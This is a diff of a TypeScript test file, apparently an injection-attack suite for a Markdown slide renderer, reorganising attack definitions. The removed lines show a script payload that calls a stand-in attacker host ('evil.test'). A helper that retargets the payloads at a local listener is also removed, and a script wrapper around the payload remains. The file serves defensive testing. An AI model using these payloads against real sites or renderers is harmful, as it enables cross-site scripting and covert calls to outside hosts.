@@ -1,18 +1,6 @@
-/** A deck that would run a program or send word to another host, by name. */
-export interface Attack {
-  readonly name: string;
-  /** The slide's Markdown, behind a first slide. */
-  readonly slide?: string;
-  /** Lines of the front matter. */
-  readonly front?: string;
-  /** Files beside the deck's text. */
-  readonly files?: Readonly<Record<string, string>>;
-}
+import { type Attack, EVIL, RUN } from './attack.ts';
+import { DATA_ATTACKS } from './data-attacks.ts';
 
-/** Stands for the address of another host, and `NAME` for the attack's name, until the attack is aimed. */
-const EVIL = 'http://evil.test/';
-/** Leaves the attack's name at the other host, and at the page; without a space, for attributes without quotes. */
-const RUN = `fetch('${EVIL}');(top.pwned||=[]).push('NAME')`;
 const own = `<!doctype html><script>${RUN}</script>`;
 const drawing = (content: string, root = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"${root}>${content}</svg>`;
@@ -272,17 +260,5 @@ export const ATTACKS: readonly Attack[] = [
   ...[...HTML, ...NEWER].map(([name, slide]) => ({ name, slide })),
   ...DIRECTIVES.map(([name, attributes]) => ({ name, slide: `<!-- .slide: ${attributes} -->\na` })),
   ...FILES,
+  ...DATA_ATTACKS,
 ];
-
-/** An attack with its name in it, against a host that listens: `127.0.0.1:40001`. */
-export function aim({ name, slide, front, files }: Attack, host: string): Attack {
-  const aimed = (text: string) => text.replaceAll('NAME', name).replace(/evil\.test\/?/g, `${host}/${name}/`);
-  return {
-    name,
-    ...(slide === undefined ? {} : { slide: aimed(slide) }),
-    ...(front === undefined ? {} : { front: aimed(front) }),
-    ...(files && {
-      files: Object.fromEntries(Object.entries(files).map(([path, text]) => [path, aimed(text)])),
-    }),
-  };
-}
